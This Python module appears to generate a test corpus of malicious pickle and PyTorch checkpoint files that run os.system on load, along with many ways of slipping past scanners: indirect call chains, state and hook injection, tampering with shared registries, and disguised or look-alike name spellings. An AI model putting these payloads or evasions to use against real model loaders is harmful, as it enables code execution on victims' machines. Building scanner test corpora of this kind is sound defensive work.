"""Pickles that would call something when they are loaded: each callable, and each form of a call."""

from __future__ import annotations

from collections.abc import Iterator

from .assemble import (
    FORMS,
    STOP,
    Call,
    Name,
    Node,
    Raw,
    by_global,
    called,
    named,
    push,
    start,
    stream,
)
from .containers import checkpoint, torch_zip
from .gadgets import TRUE, Gadget, gadgets
from .sample import Sample

SYSTEM = Name("os", "system")
PAYLOAD = Call(SYSTEM, (TRUE,))
PLAIN = Name("argparse", "Namespace")


def pickles() -> Iterator[Sample]:
    """All samples of this module."""
    yield from _each_gadget()
    yield from _each_form()
    yield from _by_state()
    yield from _put_into_shared()
    yield from _chains()
    yield from _spelled()


def _each_gadget() -> Iterator[Sample]:
    for number, gadget in enumerate(gadgets()):
        protocol = _protocol(gadget, number)
        form = FORMS[number // 6 % 3]
        if "." in gadget.name.name and form == "inst":
            form = "obj"
        data = start(protocol) + called(gadget.name, gadget.arguments, protocol, form) + STOP
        word = f"call-{number:03}-{gadget.name.module.split('.')[-1].strip('_')}-{gadget.name.name.split('.')[-1]}"
        yield Sample(word, gadget.bypass, "pickle", str(gadget.name), {"model.pkl": data}, gadget.training)
        if number % 3 == 0:
            inside = checkpoint(Raw(called(gadget.name, gadget.arguments, 4, "reduce")), 4)
            files = {"pytorch_model.bin": torch_zip(inside)}
            yield Sample(f"{word}-pt", gadget.bypass, "torch-zip", str(gadget.name), files, gadget.training)


def _protocol(gadget: Gadget, number: int) -> int:
    """Any, but that dotted names need 4 and names of Python 2 need less than 3 to mean what they mean."""
    if gadget.name.module in ("__builtin__", "commands"):
        return number % 3
    return 4 + number % 2 if "." in gadget.name.name else number % 6


def _each_form() -> Iterator[Sample]:
    """One call in every form at every protocol that knows it; opcodes are valid whatever PROTO says."""
    for protocol in range(6):
        for form in FORMS:
            data = start(protocol) + called(SYSTEM, (TRUE,), protocol, form) + STOP
            yield _one(f"form-{form}-{protocol}", 4, SYSTEM, data)
    maker = Name("types", "FunctionType")
    nothing: Node = (None, {})
    new = named(maker, 2) + push(nothing) + b"\x81"
    yield _one("form-newobj", 4, maker, start(2) + new + STOP)
    kwargs = named(maker, 4) + push(nothing, 4) + push({}, 4) + b"\x92"
    yield _one("form-newobj-ex", 4, maker, start(4) + kwargs + STOP)
    metaclass = named(Name("builtins", "type"), 2) + push(("X", (), {}), 2) + b"\x81"
    yield _one("form-newobj-type", 4, Name("builtins", "type"), start(2) + metaclass + STOP)
    yield _one("form-global-only", 4, SYSTEM, start(2) + by_global(SYSTEM) + STOP)
    in_dict = start(2) + b"}" + push("weight") + push(PAYLOAD) + b"s" + STOP
    yield _one("form-as-value", 4, SYSTEM, in_dict)
    deep: Node = PAYLOAD
    for _ in range(60):
        deep = [deep]
    yield _one("form-deep", 4, SYSTEM, stream(deep, 3))
    wide: Node = [*range(5000), PAYLOAD, *range(5000)]
    yield _one("form-among-many", 4, SYSTEM, stream(wide, 3))
    for protocol, code in ((2, b"\x82\x07"), (2, b"\x83\x07\x07"), (4, b"\x84\x07\x07\x07\x07")):
        number = int.from_bytes(code[1:], "little")
        register = push(Call(Name("copyreg", "add_extension"), ("os", "system", number)), protocol)
        data = start(protocol) + register + b"0" + code + push((TRUE,), protocol) + b"R" + STOP
        yield _one(f"form-extension-{len(code) - 1}", 4, Name("copyreg", "add_extension"), data)


def _by_state() -> Iterator[Sample]:
    """Callables put into an object as its ``__setstate__``, and reached by the next BUILD."""
    classes = (
        PLAIN,
        Name("types", "SimpleNamespace"),
        Name("collections", "OrderedDict"),
        Name("torch.nn.modules.linear", "Linear"),
        Name("torch.optim.sgd", "SGD"),
        Name("sklearn.linear_model._base", "LinearRegression"),
    )
    for number, made in enumerate(classes):
        protocol = 2 + number % 4
        new = named(made, protocol) + (b")R" if number in (0, 2) else b")\x81")
        whole: Node = {"state": {}, "defaults": {}, "param_groups": [], "__setstate__": SYSTEM}
        state = push(whole, protocol) + b"b" + push(TRUE, protocol) + b"b"
        yield _one(f"state-setstate-{number}", 4, SYSTEM, start(protocol) + new + state + STOP)
    hooks: Node = {"_forward_hooks": {"0": SYSTEM}}
    module = named(Name("torch.nn.modules.linear", "Identity"), 2) + b")\x81" + push(hooks) + b"b"
    yield _one("state-forward-hook", 4, SYSTEM, start(2) + module + STOP, training=True)
    slots: Node = (None, {"veracity_corpus": Name("builtins", "len")})
    # Classes without __setstate__, which BUILD would call instead of setting attributes.
    for target in (
        Name("torch.utils.data.sampler", "RandomSampler"),
        Name("torch.optim.lr_scheduler", "LambdaLR"),
    ):
        data = start(2) + named(target, 2) + push(slots) + b"b" + STOP
        yield _one(f"state-class-{target.name.lower()}", 4, target, data, training=True)
    for target in (Name("torch", "nn"), Name("torch", "random"), Name("os", "path")):
        data = start(2) + named(target, 2) + push({"veracity_corpus": 0}) + b"b" + STOP
        yield _one(f"state-module-{target.module}-{target.name}", 4, target, data, training=True)
    builtins = named(Name("os", "path"), 2) + named(Name("numpy", "__builtins__"), 2) + b"b0"
    reached = builtins + push(Call(Name("posixpath", "eval"), ("0",))) + STOP
    yield _one("state-numpy-builtins", 2, Name("numpy", "__builtins__"), start(2) + reached)


def _put_into_shared() -> Iterator[Sample]:
    """Items put into containers that the stream did not make."""
    cases: tuple[tuple[str, Name, bytes, int, bool], ...] = (
        ("environ", Name("os", "environ"), push("VERACITY_CORPUS") + push("1") + b"s", 4, False),
        ("modules", Name("sys", "modules"), push("veracity_corpus") + b"Ns", 11, False),
        ("modules-many", Name("sys", "modules"), b"(" + push("veracity_corpus") + b"Nu", 11, False),
        ("path", Name("sys", "path"), push("/dev/null/veracity-corpus") + b"a", 11, False),
        ("path-many", Name("sys", "path"), b"(" + push("/dev/null/veracity-corpus") + b"e", 11, False),
        ("meta-path", Name("sys", "meta_path"), named(PLAIN, 2) + b"a", 11, False),
        ("path-hooks", Name("sys", "path_hooks"), named(PLAIN, 2) + b"a", 11, False),
        ("dispatch", Name("copyreg", "dispatch_table"), named(PLAIN, 2) + named(PLAIN, 2) + b"s", 11, False),
        ("module-hooks", Name("torch.nn.modules.module", "_global_forward_hooks"),
         b"K\x00" + named(Name("builtins", "len"), 2) + b"s", 4, True),
        ("step-hooks", Name("torch.optim.optimizer", "_global_optimizer_pre_hooks"),
         b"K\x00" + named(Name("builtins", "len"), 2) + b"s", 4, True),
        ("packages", Name("torch.serialization", "_package_registry"), b"Na", 9, False),
    )  # fmt: skip
    for word, target, opcodes, bypass, training in cases:
        data = start(2) + named(target, 2) + opcodes + STOP
        yield _one(f"shared-{word}", bypass, target, data, training=training)
    fresh = Name("builtins", "setattr")
    for module, attribute in (("collections", "OrderedDict"), ("torch._utils", "_rebuild_tensor_v2")):
        there = Call(Name("importlib", "import_module"), (module,))
        call = Call(fresh, (there, attribute, Name(module, attribute)))
        yield _one(f"shared-redefine-{attribute.lower()}", 11, fresh, stream(call, 4))
    added = named(Name("torch._C", "_safe_globals"), 4) + b"(" + named(SYSTEM, 4) + b"\x90"
    yield _one("shared-safe-set", 9, Name("torch._C", "_safe_globals"), start(4) + added + STOP)


def _chains() -> Iterator[Sample]:
    """Calls of what calls returned, none of which looks like a command."""
    get, module = Name("builtins", "getattr"), Name("importlib", "import_module")
    attribute, caller = Name("operator", "attrgetter"), Name("operator", "methodcaller")
    os_there = Call(module, ("os",))
    chains: tuple[tuple[str, int, Name, Node], ...] = (
        ("getattr", 2, get, Call(Call(get, (os_there, "system")), (TRUE,))),
        ("attrgetter", 2, attribute, Call(Call(Call(attribute, ("system",)), (os_there,)), (TRUE,))),
        ("attrgetter-path", 2, attribute, Call(Call(attribute, ("os.getpid",)), (Name("os", "path"),))),
        ("methodcaller", 2, caller, Call(Call(caller, ("system", TRUE)), (os_there,))),
        ("resolve", 2, Name("pkgutil", "resolve_name"), Call(Call(Name("pkgutil", "resolve_name"), ("os:system",)), (TRUE,))),
        ("locate", 2, Name("pydoc", "locate"), Call(Call(Name("pydoc", "locate"), ("os.system",)), (TRUE,))),
        ("partial", 2, Name("functools", "partial"), Call(Call(Name("functools", "partial"), (SYSTEM, TRUE)))),
        ("map", 2, Name("builtins", "map"), Call(Name("builtins", "list"), (Call(Name("builtins", "map"), (SYSTEM, [TRUE])),))),
        ("dict-get", 2, Name("sys", "modules"), Call(Call(get, (Name("sys", "modules"), "get")), ("os",))),
        ("marshal", 2, Name("marshal", "loads"), Call(Call(Name("types", "FunctionType"), (Call(Name("marshal", "loads"), (b"N",)), {})))),
        ("numpy-object", 2, Name("numpy", "vectorize"), Call(Call(Name("numpy", "vectorize"), (SYSTEM,)), ([TRUE],))),
        ("apply", 2, Name("numpy", "apply_along_axis"), Call(Name("numpy", "apply_along_axis"), (SYSTEM, 0, [TRUE]))),
        ("defaultdict", 2, Name("collections", "defaultdict"), Call(Name("collections", "defaultdict"), (SYSTEM,))),
        ("lru-cache", 2, Name("functools", "lru_cache"), Call(Call(Name("functools", "lru_cache"), (SYSTEM,)), (TRUE,))),
        ("torch-rebuild", 2, SYSTEM, Call(Name("torch._tensor", "_rebuild_from_type_v2"), (SYSTEM, Name("torch", "Tensor"), (TRUE,), {}))),
        ("torch-codegen", 2, SYSTEM, Call(Name("torch._utils", "_rebuild_wrapper_subclass"), (SYSTEM, None, None, None, None, None, None, None))),
        ("sklearn-func", 2, SYSTEM, Call(Name("sklearn.preprocessing._function_transformer", "FunctionTransformer"), (SYSTEM,))),
        ("numpy-scalar", 2, SYSTEM, Call(Name("numpy.core.multiarray", "_reconstruct"), (SYSTEM, (0,), b"b"))),
        ("copyreg", 2, SYSTEM, Call(Name("copyreg", "_reconstructor"), (SYSTEM, Name("builtins", "object"), None))),
    )  # fmt: skip
    for word, bypass, name, node in chains:
        yield _one(f"chain-{word}", bypass, name, stream(node, 4))


def _spelled() -> Iterator[Sample]:
    """STACK_GLOBAL whose two texts are spelled, stored or come by in some other way."""
    call = b"\x93" + push((TRUE,), 2) + b"R"
    texts: dict[str, bytes] = {
        "unicode-escaped": b"V\\u006f\\u0073\nV\\u0073ystem\n",
        "string-escaped": b"S'\\x6fs'\nS\"s\\171stem\"\n",
        "short-binstring": b"U\x02osU\x06system",
        "binstring": b"T\x02\x00\x00\x00osT\x06\x00\x00\x00system",
        "binunicode8": b"\x8d" + (2).to_bytes(8, "little") + b"os\x8d" + (6).to_bytes(8, "little") + b"system",
        "memoized": b"\x8c\x02os\x94\x8c\x06system\x9400h\x00h\x01",
        "memo-long": b"\x8c\x02osr\xff\x00\x00\x00\x8c\x06systemr\xfe\x00\x00\x000" + b"0j\xff\x00\x00\x00j\xfe\x00\x00\x00",
        "text-memo": b"\x8c\x02osp7\n0g7\n\x8c\x06system",
        "dup": b"\x8c\x06system\x8c\x05posix2\x9400\x8c\x06system\x9400h\x00h\x01",
        "from-tuple-mark": b"(\x8c\x02os\x8c\x06system1(\x8c\x01x0\x8c\x05posix\x8c\x06system",
    }  # fmt: skip
    for word, opcodes in texts.items():
        module = Name("posix", "system") if b"posix" in opcodes else SYSTEM
        yield _one(f"spelled-{word}", 4, module, start(4) + opcodes + call + STOP)
    dotted = b"\x80\x04cos\npath.os.system\n" + push((TRUE,)) + b"R."
    yield _one("spelled-global-dotted", 3, Name("os", "path.os.system"), dotted)
    yield _one("spelled-global-v4", 4, SYSTEM, b"\x80\x05" + by_global(SYSTEM) + push((TRUE,)) + b"R.")
    accented = Name("vérité_corpus", "appliquer")
    yield _one("spelled-not-ascii", 3, accented, stream(Call(accented, (TRUE,)), 2))
    yield _one("spelled-not-ascii-4", 3, accented, stream(Call(accented, (TRUE,)), 4))
    # NFKC: Python's own parser would read this identifier as "system", the unpickler does not.
    wide = Name("os", "\uff53ystem")
    yield _one("spelled-look-alike", 3, wide, stream(Call(wide, (TRUE,)), 4))


def _one(name: str, bypass: int, names: Name, data: bytes, *, training: bool = False) -> Sample:
    return Sample(name, bypass, "pickle", str(names), {"model.pkl": data}, training)
